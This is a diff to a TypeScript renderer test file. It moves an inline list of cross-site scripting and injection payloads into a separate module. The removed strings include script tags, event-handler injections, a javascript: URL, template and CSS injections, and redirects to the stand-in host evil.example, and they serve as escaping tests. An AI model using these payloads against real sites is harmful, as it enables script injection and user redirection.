@@ -4,38 +4,7 @@ import type { Theme } from '../../src/types/options.ts'
 import type { Page } from '../../src/types/pages.ts'
 import { everyPage } from '../pages/examples.ts'
 import { allOf, readPage, shapeOf, textOf } from '../pages/read-page.ts'
-
-const PAYLOADS = [
-  '<script>alert(1)</script>',
-  '"><img src=x onerror=alert(1)>',
-  "'><svg onload=alert(1)>",
-  '` onmouseover=alert(1) `',
-  '" autofocus onfocus="alert(1)',
-  '</title><script>alert(1)</script>',
-  '</style><script>alert(1)</script>',
-  '</textarea></button></form><form action=//evil.example>',
-  '<!--',
-  '--!><img src=x onerror=alert(1)>',
-  ']]><script>alert(1)</script>',
-  'javascript:alert(1)',
-  'data:text/html,<script>alert(1)</script>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '&#60;script>',
-  '&quot; onclick=alert(1)',
-  '${alert(1)} {{constructor.constructor("alert(1)")()}}',
-  'red;}body{background:url(//evil.example)}',
-  'expression(alert(1))',
-  '\u0000<\u0000script>',
-  '\u2028\u2029</script>',
-  '\u202e<gpj.exe',
-  '\ud800<b>',
-  '\\"><script>alert(1)</script>',
-  '%3Cscript%3Ealert(1)%3C/script%3E',
-  '//evil.example/"onload="',
-  '<base href=//evil.example>',
-  '<meta http-equiv=refresh content="0;url=//evil.example">',
-  'x'.repeat(10_000) + '<i>',
-]
+import { PAYLOADS } from './payloads.ts'
 
 const render = (page: Page, theme: Theme = {}): string => renderPage(page, { theme, nonce: 'bm9uY2U' }).html
 
